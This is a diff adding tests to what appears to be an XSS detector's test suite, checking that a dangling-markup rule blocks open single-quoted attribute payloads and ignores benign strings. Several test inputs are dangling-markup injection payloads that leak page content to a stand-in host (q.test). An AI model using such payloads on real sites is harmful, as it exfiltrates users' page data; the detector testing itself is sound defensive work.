@@ -359,3 +359,19 @@ describe('xss: a style attribute holding declarations only', () => {
   });
   it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
 });
+
+describe('xss: dangling markup (a tag whose single-quoted attribute value is still open at the end)', () => {
+  // the browser reads the page after the value into the attribute up to the next ' and sends it with the URL;
+  // a value left open with " (pages quote their own attributes that way) is as often a field cut short
+  const hits = ["<img src='//q.test/log?h=", "<qq background='//q.test/?", "<base target='", "\"><meta http-equiv=refresh content='0;url=//q.test/?"];
+  it.each(hits)('%s is blocked as dangling markup', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).toContain('xss.dangling-markup');
+    expect(r.blocked).toBe(true);
+  });
+  const clean = ['<a href="https://example.com/watch?v=', "<img src='a.png' alt='it's me'>", "<b title='x'>y</b>", "it's <b>bold</b>, isn't it", "<p title=it's"];
+  it.each(clean)('%s is no dangling markup', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.dangling-markup');
+  });
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
+});
